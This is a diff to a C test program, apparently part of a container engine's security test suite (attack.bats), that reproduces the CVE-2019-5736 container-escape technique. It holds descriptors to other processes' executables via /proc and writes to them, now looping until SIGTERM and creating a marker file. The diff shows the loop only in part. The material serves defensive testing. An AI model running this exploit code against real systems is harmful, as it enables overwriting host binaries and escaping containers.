@@ -1,29 +1,43 @@
 /* What a hostile program in a container tries; built static by attack.bats. Each verb prints what it got. */
 #include <errno.h>
 #include <fcntl.h>
+#include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
-#include <time.h>
 #include <unistd.h>
 
-/* CVE-2019-5736: keeps a descriptor of every executable that is not ours, and writes to it once it is not busy. */
+static volatile sig_atomic_t is_over;
+
+static void
+on_term(int number)
+{
+    (void)number;
+    is_over = 1;
+}
+
+/*
+ * CVE-2019-5736: keeps a descriptor of every executable that is not ours, and writes to it once it is not busy; until
+ * SIGTERM, and once more after it. Makes the file `mark` when it has one.
+ */
 static int
-overwrite(const char *seconds)
+overwrite(const char *mark)
 {
     struct stat own, other;
-    time_t end = time(NULL) + strtol(seconds, NULL, 10);
+    bool is_last;
     long seen = 0, written = 0;
     int held[64], count = 0;
     char path[64];
 
-    if (stat("/proc/self/exe", &own) < 0)
+    if (stat("/proc/self/exe", &own) < 0 || signal(SIGTERM, on_term) == SIG_ERR)
         return 1;
     /* without a pause: the engine is there for a millisecond */
-    while (time(NULL) < end) {
+    do {
+        is_last = is_over;
         for (int pid = 1; pid < 200; pid++) {
             (void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
             int fd = count < 64 ? open(path, O_RDONLY) : -1;
@@ -34,7 +48,8 @@ overwrite(const char *seconds)
                 close(fd);
                 continue;
             }
-            seen++;
+            if (seen++ == 0)
+                close(open(mark, O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
             held[count++] = fd;
         }
         for (int k = 0; k < count; k++) {
@@ -46,7 +61,7 @@ overwrite(const char *seconds)
                 close(fd);
             }
         }
-    }
+    } while (!is_last);
     printf("seen %s, written %ld\n", seen > 0 ? "some" : "none", written);
     return 0;
 }
